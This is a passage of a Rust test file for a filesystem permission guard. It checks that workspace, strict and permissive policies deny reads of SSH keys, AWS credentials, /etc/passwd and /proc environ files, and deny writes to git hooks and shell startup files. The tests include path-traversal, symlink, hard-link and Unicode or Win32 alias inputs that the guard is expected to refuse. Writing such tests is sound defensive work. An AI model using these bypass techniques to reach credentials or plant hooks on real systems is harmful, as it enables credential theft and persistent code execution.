//! Behaviour of the filesystem guard on a real fixture tree, and of the
//! platform rules without one.

use std::path::PathBuf;

use super::*;
use crate::decision::Verdict;

/// A fixture under a fresh temporary root `R`:
/// `R/ws/{src/main.rs, README.md, .env}`, `R/home/u/{.ssh/id_rsa, .bashrc}`,
/// `R/etc/passwd`, `R/outside/`.
pub(super) struct Fx {
    _dir: tempfile::TempDir,
    pub(super) r: PathBuf,
}

impl Fx {
    pub(super) fn new() -> Fx {
        let dir = tempfile::Builder::new()
            .prefix("fsguard")
            .tempdir()
            .unwrap();
        let r = std::fs::canonicalize(dir.path()).unwrap();
        let fx = Fx { _dir: dir, r };
        for f in [
            "ws/src/main.rs",
            "ws/README.md",
            "ws/.env",
            "home/u/.ssh/id_rsa",
            "home/u/.bashrc",
            "etc/passwd",
        ] {
            fx.file(f, &format!("content of {f}\n"));
        }
        fx.dir("outside");
        fx
    }

    /// `R/rel` as text.
    pub(super) fn p(&self, rel: &str) -> String {
        format!("{}/{rel}", self.r.display())
    }

    pub(super) fn path(&self, rel: &str) -> PathBuf {
        self.r.join(rel)
    }

    pub(super) fn file(&self, rel: &str, content: &str) {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, content).unwrap();
    }

    pub(super) fn dir(&self, rel: &str) {
        std::fs::create_dir_all(self.path(rel)).unwrap();
    }

    /// A symbolic link at `R/link` with content `target` (taken literally).
    pub(super) fn link(&self, link: &str, target: &str) {
        let l = self.path(link);
        std::fs::create_dir_all(l.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, l).unwrap();
    }

    pub(super) fn guard(&self, pol: &FilesystemPolicy) -> FilesystemGuard {
        self.guard_limits(pol, &ResourceLimits::default())
    }

    pub(super) fn guard_limits(
        &self,
        pol: &FilesystemPolicy,
        limits: &ResourceLimits,
    ) -> FilesystemGuard {
        FilesystemGuard::new(pol, limits, &self.path("ws"), &self.path("home/u")).unwrap()
    }
}

pub(super) fn pol(mode: FilesystemMode, allowed: &[&str], blocked: &[&str]) -> FilesystemPolicy {
    FilesystemPolicy {
        mode,
        allowed_paths: allowed.iter().map(|s| s.to_string()).collect(),
        blocked_paths: blocked.iter().map(|s| s.to_string()).collect(),
        allow_symlinks: true,
        allow_hidden_files: true,
    }
}

use FileOperation as Op;
use FilesystemMode::{Permissive, Strict, Workspace};

fn check(g: &FilesystemGuard, path: &str, op: Op) -> Decision {
    g.check(&FileRequest::new(path, op))
}

fn check2(g: &FilesystemGuard, path: &str, op: Op, other: &str) -> Decision {
    g.check(&FileRequest {
        path,
        operation: op,
        other: Some(other),
        size: None,
    })
}

#[track_caller]
fn allow(d: Decision) {
    assert_eq!(d.verdict, Verdict::Allow, "{d:?}");
    assert_eq!(d.code, DecisionCode::Allowed);
}

#[track_caller]
fn deny(d: Decision, code: DecisionCode) -> Decision {
    assert_eq!((d.verdict, d.code), (Verdict::Deny, code), "{d:?}");
    d
}

#[test]
fn workspace_files_and_relative_paths_are_allowed() {
    let fx = Fx::new();
    let g = fx.guard(&pol(Workspace, &[], &["~/.ssh", "/etc"]));
    allow(check(&g, "src/main.rs", Op::Read));
    allow(check(&g, "./src/../README.md", Op::Write));
    allow(check(&g, &fx.p("ws/new/dir/file.txt"), Op::Create));
    allow(check(&g, &fx.p("ws"), Op::List));
    allow(check(
        &g,
        &format!("file://{}", fx.p("ws/src/main.rs")),
        Op::Read,
    ));
    let d = check(&g, "src/main.rs", Op::Read);
    assert_eq!(
        d.rule.as_deref(),
        Some(format!("workspace: {}", fx.p("ws")).as_str())
    );
}

/// The glob entries a caller must look for on disk, and the matches it
/// finds judged exactly as checks judge them.
#[test]
fn blocked_globs_are_listed_with_their_base_and_match_like_checks() {
    let fx = Fx::new();
    fx.file("ws/keys/server.pem", "k");
    fx.file("ws/conf/prod/token", "t");
    let g = fx.guard(&pol(
        Workspace,
        &[],
        &[
            "~/.ssh",
            "*.pem",
            "./conf/*/token",
            "**/.env",
            "/etc/**/*.key",
        ],
    ));
    let globs = g.blocked_globs();
    let bases: Vec<_> = globs.iter().map(|b| b.base.clone()).collect();
    assert_eq!(
        bases,
        vec![
            None,
            Some(fx.path("ws/conf")),
            None,
            Some(PathBuf::from("/etc"))
        ]
    );
    assert_eq!(globs[0].rule, "filesystem.blocked_paths[1]: *.pem");
    let at = |rel: &str| g.blocked_glob_at(&fx.path(rel)).map(str::to_string);
    assert_eq!(
        at("ws/keys/server.pem").as_deref(),
        Some(globs[0].rule.as_str())
    );
    assert_eq!(
        at("ws/conf/prod/token").as_deref(),
        Some(globs[1].rule.as_str())
    );
    assert_eq!(
        at("ws/conf/prod/token/inner").as_deref(),
        Some(globs[1].rule.as_str())
    );
    assert_eq!(at("ws/a/b/.env").as_deref(), Some(globs[2].rule.as_str()));
    assert_eq!(at("ws/keys"), None);
    assert_eq!(at("ws/conf/prod/tokens"), None);
    assert_eq!(at("ws/conf/token"), None);
    // The same paths through a check.
    for (rel, blocked) in [
        ("ws/keys/server.pem", true),
        ("ws/conf/prod/token", true),
        ("ws/keys", false),
    ] {
        let d = check(&g, &fx.p(rel), Op::Read);
        assert_eq!(d.code == DecisionCode::BlockedPath, blocked, "{rel}: {d:?}");
    }
    let plain = fx.guard(&pol(Workspace, &[], &["~/.ssh"]));
    assert!(plain.blocked_globs().is_empty());
    assert_eq!(plain.blocked_glob_at(&fx.path("ws/keys/server.pem")), None);
}

/// With many blocked entries covering a path (paths, globs, a link's two
/// forms), the decision names the first in list order, as the list reads.
#[test]
fn the_first_listed_blocked_entry_decides() {
    let fx = Fx::new();
    fx.dir("ws/data/keys/old");
    fx.link("ws/alias", "data");
    let many: Vec<String> = (0..500).map(|i| fx.p(&format!("other-{i}/x"))).collect();
    let mut blocked: Vec<&str> = many.iter().map(String::as_str).collect();
    let keys_glob = fx.p("ws/data/*/old");
    let keys = fx.p("ws/data/keys");
    let alias_keys = fx.p("ws/alias/keys");
    let data = fx.p("ws/data");
    blocked.extend([
        keys_glob.as_str(),
        keys.as_str(),
        alias_keys.as_str(),
        "*.pem",
        data.as_str(),
    ]);
    let g = fx.guard(&pol(Workspace, &[], &blocked));
    let rule = |path: &str, op: Op| {
        deny(check(&g, path, op), DecisionCode::BlockedPath)
            .rule
            .unwrap()
    };
    let at = |i: usize| format!("filesystem.blocked_paths[{i}]: {}", blocked[i]);
    assert_eq!(rule("data/keys/old/a", Op::Read), at(500));
    assert_eq!(rule("alias/keys/old", Op::Read), at(500));
    assert_eq!(rule("data/keys/new", Op::Read), at(501));
    assert_eq!(rule("alias/keys/new", Op::Read), at(501));
    assert_eq!(rule("data/k.pem", Op::Read), at(503));
    assert_eq!(rule("alias/k.pem", Op::Read), at(503));
    assert_eq!(rule("data/other", Op::Write), at(504));
    assert_eq!(rule(&fx.p("other-321/x/y"), Op::Read), at(321));
    allow(check(&g, &fx.p("ws/src/main.rs"), Op::Read));
    allow(check(&g, &fx.p("ws/dat"), Op::Create));
    // Deleting a directory that holds blocked entries names the first of them.
    let d = deny(check(&g, "data", Op::Delete), DecisionCode::BlockedPath);
    assert_eq!(d.rule.unwrap(), at(504));
    let d = deny(check(&g, "alias", Op::Delete), DecisionCode::RootOperation);
    assert_eq!(d.rule.unwrap(), at(502));
}

#[test]
fn outside_and_blocked_name_the_part_and_the_rule() {
    let fx = Fx::new();
    let g = fx.guard(&pol(Workspace, &[], &["~/.ssh", &fx.p("etc")]));
    let d = deny(
        check(&g, "../etc/passwd", Op::Read),
        DecisionCode::BlockedPath,
    );
    assert_eq!(
        d.rule.as_deref(),
        Some(format!("filesystem.blocked_paths[1]: {}", fx.p("etc")).as_str())
    );
    assert!(d.reason.contains(&fx.p("etc/passwd")), "{}", d.reason);
    let d = deny(
        check(&g, "~/.ssh/id_rsa", Op::Read),
        DecisionCode::BlockedPath,
    );
    assert_eq!(
        d.rule.as_deref(),
        Some("filesystem.blocked_paths[0]: ~/.ssh")
    );
    let d = deny(
        check(&g, &fx.p("outside/x"), Op::Write),
        DecisionCode::OutsideWorkspace,
    );
    assert_eq!(d.rule.as_deref(), Some("filesystem.mode: workspace"));
    assert!(d.reason.contains(&fx.p("outside/x")));
}

#[test]
fn strict_mode_needs_an_allowed_entry_and_relative_entries_use_the_workspace() {
    let fx = Fx::new();
    let g = fx.guard(&pol(Strict, &["src"], &[]));
    allow(check(&g, "src/main.rs", Op::Read));
    deny(
        check(&g, "README.md", Op::Read),
        DecisionCode::OutsideAllowedPaths,
    );
    let g = fx.guard(&pol(Strict, &["./"], &[]));
    allow(check(&g, "README.md", Op::Read));
    deny(
        check(&g, &fx.p("outside/x"), Op::Read),
        DecisionCode::OutsideAllowedPaths,
    );
}

#[test]
fn protected_files_hold_even_in_permissive_mode() {
    let fx = Fx::new();
    fx.dir("ws/.git/hooks");
    fx.file("ws/.git/config", "");
    fx.dir("ws/sub/.git/modules/lib");
    let g = fx.guard(&pol(Permissive, &[], &[]));
    let d = deny(
        check(&g, "~/.ssh/id_rsa", Op::Read),
        DecisionCode::ProtectedPath,
    );
    assert_eq!(d.rule.as_deref(), Some("built-in: protected ~/.ssh"));
    deny(
        check(&g, "~/.aws/credentials", Op::Read),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, "~/.bashrc", Op::Write),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, "~/.config/fish/config.fish", Op::Write),
        DecisionCode::ProtectedPath,
    );
    // What the stock `~/.bashrc` sources, and what git's pager and editor read.
    for p in [
        "~/.bash_aliases",
        "~/.bashrc.d/x.sh",
        "~/.bash_completion",
        "~/.local/share/bash-completion/completions/git",
        "~/.lesskey",
        "~/.config/lesskey",
        "~/.lessfilter",
        "~/.vimrc",
        "~/.config/nvim/init.lua",
    ] {
        deny(check(&g, p, Op::Write), DecisionCode::ProtectedPath);
        allow(check(&g, p, Op::Read));
    }
    allow(check(&g, "~/.bashrc", Op::Read));
    allow(check(&g, "~/.sshx", Op::Read));
    let d = deny(
        check(&g, ".git/hooks/pre-commit", Op::Write),
        DecisionCode::ProtectedPath,
    );
    assert_eq!(d.rule.as_deref(), Some("built-in: protected .git/hooks"));
    deny(
        check(&g, ".git/config", Op::Write),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, "sub/.git/config", Op::Create),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, "sub/.git/modules/lib/config", Op::Write),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, "sub/.git/modules/lib/hooks/post-checkout", Op::Write),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, ".git/hooks", Op::Delete),
        DecisionCode::ProtectedPath,
    );
    allow(check(&g, ".git/config", Op::Read));
    allow(check(&g, ".git/HEAD", Op::Write));
    allow(check(&g, ".github/workflows/ci.yml", Op::Write));
    // A `.git` file can point git at hooks elsewhere.
    deny(
        check(&g, "other/.git", Op::Write),
        DecisionCode::ProtectedPath,
    );
    deny(
        check2(&g, "README.md", Op::Rename, "other/.git"),
        DecisionCode::ProtectedPath,
    );
    allow(check(&g, "other/.git", Op::CreateDir));
    // Reached through a link, the canonical path is what counts.
    fx.link("ws/h", ".git/hooks");
    deny(
        check(&g, "h/pre-push", Op::Write),
        DecisionCode::ProtectedPath,
    );
}

#[test]
fn explicit_allowed_entries_lift_a_protection() {
    let fx = Fx::new();
    fx.dir("ws/.git/hooks");
    let g = fx.guard(&pol(Permissive, &["~/.ssh", ".git/hooks"], &[]));
    allow(check(&g, "~/.ssh/id_rsa", Op::Read));
    allow(check(&g, ".git/hooks/pre-commit", Op::Write));
    // A broad entry that merely contains the protected path does not.
    let g = fx.guard(&pol(Permissive, &["~", "./"], &[]));
    deny(
        check(&g, "~/.ssh/id_rsa", Op::Read),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, ".git/hooks/pre-commit", Op::Write),
        DecisionCode::ProtectedPath,
    );
}

#[test]
fn hidden_components_count_only_below_the_matched_root() {
    let fx = Fx::new();
    fx.file("home/u/.proj/ws/x.txt", "");
    fx.file("home/u/.proj/ws/.env", "");
    let mut p = pol(Workspace, &[], &[]);
    p.allow_hidden_files = false;
    let g = FilesystemGuard::new(
        &p,
        &ResourceLimits::default(),
        &fx.path("home/u/.proj/ws"),
        &fx.path("home/u"),
    )
    .unwrap();
    allow(check(&g, "x.txt", Op::Read));
    let d = deny(check(&g, ".env", Op::Read), DecisionCode::HiddenFile);
    assert!(d.reason.contains("\".env\""), "{}", d.reason);
    // A hidden name on the way counts even when the target is not hidden.
    fx.link("home/u/.proj/ws/.hl", ".");
    deny(check(&g, ".hl/x.txt", Op::Read), DecisionCode::HiddenFile);
    // In permissive mode outside every root, every component counts.
    let mut p = pol(Permissive, &[], &[]);
    p.allow_hidden_files = false;
    let g = fx.guard(&p);
    deny(
        check(&g, &fx.p("home/u/.cache/x"), Op::Read),
        DecisionCode::HiddenFile,
    );
    allow(check(&g, &fx.p("outside/x"), Op::Read));
}

#[test]
fn symlinks_off_refuses_links_below_roots_but_not_above() {
    let fx = Fx::new();
    fx.link("ws/srclink", "src");
    fx.dir("real/ws2");
    fx.link("lnk", "real");
    let mut p = pol(Workspace, &[], &[]);
    p.allow_symlinks = false;
    let g = fx.guard(&p);
    let d = deny(
        check(&g, "srclink/main.rs", Op::Read),
        DecisionCode::SymlinkNotAllowed,
    );
    assert!(d.reason.contains("srclink"), "{}", d.reason);
    deny(
        check2(&g, "newlink", Op::Symlink, "src"),
        DecisionCode::SymlinkNotAllowed,
    );
    // Deleting a link acts on the link, not through it.
    allow(check(&g, "srclink", Op::Delete));
    // A workspace configured through a linked ancestor is fine.
    let g = FilesystemGuard::new(
        &p,
        &ResourceLimits::default(),
        &fx.path("lnk/ws2"),
        &fx.path("home/u"),
    )
    .unwrap();
    allow(check(&g, &fx.p("lnk/ws2/a.txt"), Op::Write));
    allow(check(&g, &fx.p("real/ws2/a.txt"), Op::Write));
}

#[test]
fn devices_and_kernel_interfaces() {
    let fx = Fx::new();
    let g = fx.guard(&pol(Workspace, &[], &[]));
    for dev in [
        "/dev/null",
        "/dev/zero",
        "/dev/urandom",
        "/dev/stdout",
        "/dev/stderr",
    ] {
        allow(check(&g, dev, Op::Write));
        allow(check(&g, dev, Op::Read));
    }
    deny(check(&g, "/dev/null", Op::Delete), DecisionCode::DevicePath);
    deny(check(&g, "/dev/sda", Op::Read), DecisionCode::DevicePath);
    deny(
        check(&g, "/sys/kernel/notes", Op::Read),
        DecisionCode::DevicePath,
    );
    deny(
        check(&g, "/proc/1/environ", Op::Read),
        DecisionCode::DevicePath,
    );
    // Through links in the workspace.
    fx.link("ws/null", "/dev/null");
    allow(check(&g, "null", Op::Write));
    fx.link("ws/fd0", "/proc/self/fd/0");
    deny(check(&g, "fd0", Op::Read), DecisionCode::DevicePath);
    fx.link("ws/rootfs", "/proc/self/root");
    deny(
        check(&g, &format!("rootfs{}", fx.p("ws/README.md")), Op::Read),
        DecisionCode::DevicePath,
    );
    // Blocked wins over the safe devices; explicit entries allow devices.
    let g = fx.guard(&pol(Permissive, &["/dev/shm"], &["/dev/null"]));
    deny(check(&g, "/dev/null", Op::Write), DecisionCode::BlockedPath);
    allow(check(&g, "/dev/shm/x", Op::Write));
    deny(check(&g, "/dev/mem", Op::Read), DecisionCode::DevicePath);
}

#[test]
fn roots_and_ancestors_of_blocked_entries_are_never_deleted_or_moved() {
    let fx = Fx::new();
    fx.file("ws/a/secret/k", "");
    fx.dir("ws/keep");
    let g = fx.guard(&pol(Workspace, &["keep"], &["a/secret"]));
    deny(
        check(&g, &fx.p("ws"), Op::Delete),
        DecisionCode::RootOperation,
    );
    deny(check(&g, "keep", Op::Delete), DecisionCode::RootOperation);
    let d = deny(check(&g, "a", Op::Delete), DecisionCode::RootOperation);
    assert!(d.reason.contains("a/secret"), "{}", d.reason);
    deny(
        check2(&g, "a", Op::Rename, "b"),
        DecisionCode::RootOperation,
    );
    deny(
        check2(&g, "README.md", Op::Rename, &fx.p("ws")),
        DecisionCode::RootOperation,
    );
    allow(check(&g, "README.md", Op::Delete));
    allow(check2(&g, "src", Op::Rename, "lib"));
    let g = fx.guard(&pol(Permissive, &[], &[]));
    deny(check(&g, "~", Op::Delete), DecisionCode::RootOperation);
    deny(
        check(&g, &fx.p(""), Op::Delete),
        DecisionCode::RootOperation,
    );
}

#[test]
fn both_ends_of_rename_and_link_are_checked() {
    let fx = Fx::new();
    let g = fx.guard(&pol(Workspace, &[], &[&fx.p("etc")]));
    deny(
        check2(&g, "README.md", Op::Rename, &fx.p("etc/x")),
        DecisionCode::BlockedPath,
    );
    deny(
        check2(&g, "README.md", Op::Rename, &fx.p("outside/x")),
        DecisionCode::OutsideWorkspace,
    );
    deny(
        check2(&g, &fx.p("outside"), Op::Rename, "x"),
        DecisionCode::OutsideWorkspace,
    );
    allow(check2(&g, "hl", Op::Link, "README.md"));
    deny(
        check2(&g, "hl", Op::Link, &fx.p("etc/passwd")),
        DecisionCode::BlockedPath,
    );
    // Protection comes before the mode.
    deny(
        check2(&g, "hl", Op::Link, "~/.bashrc"),
        DecisionCode::ProtectedPath,
    );
    let g = fx.guard(&pol(Permissive, &[], &[]));
    deny(
        check2(&g, "hl", Op::Link, "~/.bashrc"),
        DecisionCode::ProtectedPath,
    );
    // A link to a link is judged at its final target too.
    fx.link("ws/to-etc", &fx.p("etc/passwd"));
    let g = fx.guard(&pol(Workspace, &[], &[]));
    deny(
        check2(&g, "hl", Op::Link, "to-etc"),
        DecisionCode::OutsideWorkspace,
    );
    deny(
        g.check(&FileRequest::new("x", Op::Rename)),
        DecisionCode::BadRequest,
    );
}

#[test]
fn symlink_targets_resolve_from_the_link_directory() {
    let fx = Fx::new();
    fx.dir("ws/sub");
    let g = fx.guard(&pol(Workspace, &[], &[]));
    allow(check2(&g, "sub/l", Op::Symlink, "../src"));
    deny(
        check2(&g, "sub/l", Op::Symlink, "../../etc"),
        DecisionCode::OutsideWorkspace,
    );
    deny(
        check2(&g, "sub/l", Op::Symlink, &fx.p("outside")),
        DecisionCode::OutsideWorkspace,
    );
    // `~` in link text is a name, as the kernel sees it.
    allow(check2(&g, "sub/l", Op::Symlink, "~/x"));
}

#[test]
fn sizes_are_bounded_when_known() {
    let fx = Fx::new();
    let limits = ResourceLimits {
        max_file_size: Some(10),
        ..Default::default()
    };
    let g = fx.guard_limits(&pol(Workspace, &[], &[]), &limits);
    let req = |size| FileRequest {
        path: "a.txt",
        operation: Op::Write,
        other: None,
        size,
    };
    allow(g.check(&req(Some(10))));
    allow(g.check(&req(None)));
    let d = deny(g.check(&req(Some(11))), DecisionCode::FileTooLarge);
    assert_eq!(d.rule.as_deref(), Some("limits.max_file_size: 10"));
}

#[test]
fn globs_do_not_cross_separators_unless_double_star() {
    let fx = Fx::new();
    let g = fx.guard(&pol(
        Workspace,
        &[],
        &["*.pem", "secrets/*.key", "**/node_modules"],
    ));
    deny(
        check(&g, "deep/dir/server.pem", Op::Read),
        DecisionCode::BlockedPath,
    );
    allow(check(&g, "deep/dir/pem-guide.md", Op::Read));
    deny(
        check(&g, "secrets/a.key", Op::Read),
        DecisionCode::BlockedPath,
    );
    allow(check(&g, "secrets/sub/a.key", Op::Read));
    deny(
        check(&g, "web/node_modules/x/index.js", Op::Read),
        DecisionCode::BlockedPath,
    );
    let g = fx.guard(&pol(Strict, &["pkgs/*/src"], &[]));
    allow(check(&g, "pkgs/a/src/lib.rs", Op::Write));
    deny(
        check(&g, "pkgs/a/test/lib.rs", Op::Write),
        DecisionCode::OutsideAllowedPaths,
    );
    deny(
        check(&g, "pkgs/a/b/src/lib.rs", Op::Write),
        DecisionCode::OutsideAllowedPaths,
    );
}

#[test]
fn policy_paths_are_canonicalized_once() {
    let fx = Fx::new();
    std::fs::rename(fx.path("home/u"), fx.path("outside/u")).unwrap();
    fx.link("home/u", &fx.p("outside/u"));
    let g = fx.guard(&pol(Permissive, &[], &["~/.aws"]));
    fx.file("outside/u/.aws/credentials", "");
    deny(
        check(&g, &fx.p("outside/u/.aws/credentials"), Op::Read),
        DecisionCode::BlockedPath,
    );
    deny(
        check(&g, &fx.p("outside/u/.ssh/id_rsa"), Op::Read),
        DecisionCode::ProtectedPath,
    );
}

#[test]
fn blocked_and_protected_entries_are_known_by_identity() {
    let fx = Fx::new();
    fx.file("ws/secrets/key", "S");
    let g = fx.guard(&pol(Workspace, &[], &["secrets"]));
    // Renamed after the policy was compiled: the name changed, the directory did not.
    std::fs::rename(fx.path("ws/secrets"), fx.path("ws/renamed")).unwrap();
    let d = deny(
        check(&g, "renamed/key", Op::Read),
        DecisionCode::BlockedPath,
    );
    assert!(d.reason.contains("same file"), "{}", d.reason);
    // A hard link to a start-up file may be read, not changed.
    std::fs::hard_link(fx.path("home/u/.bashrc"), fx.path("ws/rc")).unwrap();
    allow(check(&g, "rc", Op::Read));
    deny(check(&g, "rc", Op::Write), DecisionCode::ProtectedPath);
}

#[test]
fn unresolvable_paths_deny() {
    let fx = Fx::new();
    fx.link("ws/loop", "loop");
    let g = fx.guard(&pol(Permissive, &[], &[]));
    deny(check(&g, "loop/x", Op::Write), DecisionCode::SymlinkLoop);
    deny(
        check(&g, "README.md/x", Op::Read),
        DecisionCode::ResolutionError,
    );
    deny(check(&g, "", Op::Read), DecisionCode::InvalidPath);
    deny(
        check(&g, "https://example.com/x", Op::Read),
        DecisionCode::InvalidPath,
    );
}

#[test]
fn bad_policies_are_errors() {
    let fx = Fx::new();
    let e = FilesystemGuard::new(
        &pol(Workspace, &[], &["src/[a"]),
        &ResourceLimits::default(),
        &fx.path("ws"),
        &fx.path("home/u"),
    )
    .unwrap_err();
    assert!(
        e.message
            .starts_with("filesystem.blocked_paths[0]: invalid glob"),
        "{}",
        e.message
    );
    let e = FilesystemGuard::for_platform(
        &pol(Workspace, &[], &[r"\\server\share"]),
        &ResourceLimits::default(),
        r"C:\ws",
        r"C:\Users\u",
        Platform::Windows,
    )
    .unwrap_err();
    assert!(e.message.contains("UNC"), "{}", e.message);
    let e = FilesystemGuard::for_platform(
        &pol(Workspace, &[], &[]),
        &ResourceLimits::default(),
        "ws",
        "/home/u",
        Platform::Linux,
    )
    .unwrap_err();
    assert!(e.message.starts_with("workspace:"), "{}", e.message);
}

fn pure(platform: Platform, ws: &str, home: &str, p: &FilesystemPolicy) -> FilesystemGuard {
    FilesystemGuard::for_platform(p, &ResourceLimits::default(), ws, home, platform).unwrap()
}

/// Names the platform takes for `.git`: Win32 drops trailing dots and
/// spaces and has 8.3 short names; HFS+ ignores some code points.
#[test]
fn git_name_aliases_per_platform() {
    let w = pure(
        Platform::Windows,
        r"C:\ws",
        r"C:\Users\u",
        &pol(Workspace, &[], &[]),
    );
    for alias in [r"C:\ws\.git.\config", "C:\\ws\\.git \\config"] {
        deny(check(&w, alias, Op::Write), DecisionCode::ProtectedPath);
    }
    assert!(!check(&w, r"C:\ws\GIT~1\config", Op::Write).is_allowed());
    let m = pure(
        Platform::MacOs,
        "/ws",
        "/Users/u",
        &pol(Workspace, &[], &[]),
    );
    for alias in [
        "/ws/.g\u{206a}it/config",
        "/ws/.GIT\u{200c}/hooks/x",
        "/ws/\u{feff}.git/config",
    ] {
        deny(check(&m, alias, Op::Write), DecisionCode::ProtectedPath);
    }
    let l = pure(Platform::Linux, "/ws", "/home/u", &pol(Workspace, &[], &[]));
    allow(check(&l, "/ws/.g\u{206a}it/config", Op::Write));
    allow(check(&l, "/ws/.git./config", Op::Write));
}

#[test]
fn windows_rules() {
    let g = pure(
        Platform::Windows,
        r"C:\ws",
        r"C:\Users\u",
        &pol(
            Workspace,
            &[],
            &[r"~\.ssh", r"C:\ws\secret.txt", r"**\*.pem"],
        ),
    );
    allow(check(&g, r"c:/WS/src/x.rs", Op::Write));
    deny(
        check(&g, "C:\\ws\\secret.txt. ", Op::Read),
        DecisionCode::BlockedPath,
    );
    deny(
        check(&g, r"C:\WS\Certs\Server.PEM", Op::Read),
        DecisionCode::BlockedPath,
    );
    deny(
        check(&g, r"c:\users\U\.SSH\id_rsa", Op::Read),
        DecisionCode::BlockedPath,
    );
    deny(
        check(&g, r"D:\ws\x", Op::Read),
        DecisionCode::OutsideWorkspace,
    );
    deny(
        check(&g, r"C:\wsx\y", Op::Read),
        DecisionCode::OutsideWorkspace,
    );
    deny(check(&g, r"\\.\nul", Op::Write), DecisionCode::PlatformPath);
    // Verbatim paths: one naming a drive is that path; anything else after
    // `\\?\`, a multi-byte character too (a fuzzer find), is refused.
    allow(check(&g, r"\\?\C:\ws\src\x.rs", Op::Read));
    for odd in [
        "\\\\?\\\u{0bcc}",
        "//?/\u{0bcc}",
        "\\\\?\\é:\\x",
        "\\\\?\\C",
    ] {
        deny(check(&g, odd, Op::Read), DecisionCode::PlatformPath);
    }
    deny(
        check(&g, r"C:\ws\aux.c", Op::Write),
        DecisionCode::PlatformPath,
    );
    // `..` never climbs above the drive.
    deny(
        check(&g, r"C:\..\..\ws2", Op::Read),
        DecisionCode::OutsideWorkspace,
    );
    allow(check(&g, r"\ws\src", Op::List));
}

#[test]
fn macos_rules() {
    let g = pure(
        Platform::MacOs,
        "/Users/u/ws",
        "/Users/u",
        &pol(Workspace, &["/tmp"], &["/etc", "~/.ssh"]),
    );
    allow(check(&g, "/private/tmp/x", Op::Write));
    allow(check(&g, "/TMP/x", Op::Write));
    deny(
        check(&g, "/private/etc/hosts", Op::Read),
        DecisionCode::BlockedPath,
    );
    deny(check(&g, "/ETC/hosts", Op::Read), DecisionCode::BlockedPath);
    deny(
        check(&g, "/users/U/.SSH/id_rsa", Op::Read),
        DecisionCode::BlockedPath,
    );
    allow(check(&g, "/Users/u/WS/Src/main.rs", Op::Read));
    let g = pure(
        Platform::MacOs,
        "/ws",
        "/Users/u",
        &pol(Workspace, &[], &["/ws/café"]),
    );
    deny(
        check(&g, "/ws/cafe\u{301}/x", Op::Read),
        DecisionCode::BlockedPath,
    );
    deny(check(&g, "/ws/CAFÉ/x", Op::Read), DecisionCode::BlockedPath);
}

#[test]
fn linux_compares_exactly() {
    let g = pure(
        Platform::Linux,
        "/ws",
        "/home/u",
        &pol(Workspace, &[], &["/ws/secret"]),
    );
    allow(check(&g, "/ws/SECRET", Op::Read));
    allow(check(&g, "/ws/secret-public/x", Op::Read));
    deny(
        check(&g, "/ws/secret/x", Op::Read),
        DecisionCode::BlockedPath,
    );
    deny(check(&g, "/WS/x", Op::Read), DecisionCode::OutsideWorkspace);
}

#[test]
fn guard_is_shareable_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<FilesystemGuard>();
}

#[cfg(target_os = "linux")]
mod enforcing {
    use super::*;
    use crate::guards::filesystem::enforce::{EntryKind, OpError};
    use std::io::Read;

    #[track_caller]
    fn refused(r: Result<impl std::fmt::Debug, OpError>, code: DecisionCode) {
        match r {
            Err(OpError::Denied(d)) => assert_eq!(d.code, code, "{d:?}"),
            other => panic!("expected a {code} refusal, got {other:?}"),
        }
    }

    #[track_caller]
    fn failed(r: Result<impl std::fmt::Debug, OpError>, code: crate::error::ErrorCode) -> String {
        match r {
            Err(OpError::Failed(e)) => {
                assert_eq!(e.code, code, "{e:?}");
                e.message
            }
            other => panic!("expected a {code:?} failure, got {other:?}"),
        }
    }

    fn read(fx: &Fx, rel: &str) -> String {
        std::fs::read_to_string(fx.path(rel)).unwrap()
    }

    #[test]
    fn a_write_refuses_a_file_given_a_second_name_after_the_check() {
        let fx = Fx::new();
        let g = fx.guard(&pol(Workspace, &[], &[]));
        let a = g
            .authorize(&FileRequest::new("README.md", Op::Write))
            .unwrap();
        std::fs::hard_link(fx.path("ws/README.md"), fx.path("outside/r")).unwrap();
        refused(g.write_authorized(&a, b"x"), DecisionCode::ProtectedPath);
        assert_eq!(read(&fx, "outside/r"), "content of ws/README.md\n");
        refused(g.write_file("README.md", b"x"), DecisionCode::ProtectedPath);
    }

    #[test]
    fn operations_do_what_they_say() {
        let fx = Fx::new();
        let g = fx.guard(&pol(Workspace, &[], &["~/.ssh"]));
        assert_eq!(
            g.read_file("src/main.rs").unwrap(),
            b"content of ws/src/main.rs\n"
        );
        g.write_file("out/deep/a.txt", b"hello").unwrap();
        assert_eq!(read(&fx, "ws/out/deep/a.txt"), "hello");
        g.write_file("out/deep/a.txt", b"hi").unwrap();
        assert_eq!(read(&fx, "ws/out/deep/a.txt"), "hi");
        failed(
            g.create_file("out/deep/a.txt", b"x"),
            crate::error::ErrorCode::AlreadyExists,
        );
        g.create_file("out/new.txt", b"new").unwrap();
        g.create_dir("d1/d2").unwrap();
        g.create_dir("d1/d2").unwrap();
        assert!(fx.path("ws/d1/d2").is_dir());
        g.rename("out/new.txt", "d1/moved.txt").unwrap();
        assert_eq!(read(&fx, "ws/d1/moved.txt"), "new");
        failed(
            g.rename("out/deep/a.txt", "d1/moved.txt"),
            crate::error::ErrorCode::AlreadyExists,
        );
        g.delete("d1/moved.txt").unwrap();
        g.delete("d1/d2").unwrap();
        assert!(!fx.path("ws/d1/d2").exists());
        failed(g.delete("out"), crate::error::ErrorCode::NotEmpty);
        let missing = failed(
            g.read_file("missing.txt"),
            crate::error::ErrorCode::NotFound,
        );
        assert!(!missing.contains("os error"), "{missing}");
        let names: Vec<_> = g
            .list_dir(".")
            .unwrap()
            .into_iter()
            .map(|e| (e.name, e.kind))
            .collect();
        assert!(names.contains(&("src".into(), EntryKind::Dir)), "{names:?}");
        assert!(
            names.contains(&("README.md".into(), EntryKind::File)),
            "{names:?}"
        );
        // Refusals come from the policy, before anything is touched.
        refused(g.read_file("~/.ssh/id_rsa"), DecisionCode::BlockedPath);
        refused(
            g.write_file(&fx.p("outside/x"), b"x"),
            DecisionCode::OutsideWorkspace,
        );
        assert!(!fx.path("outside/x").exists());
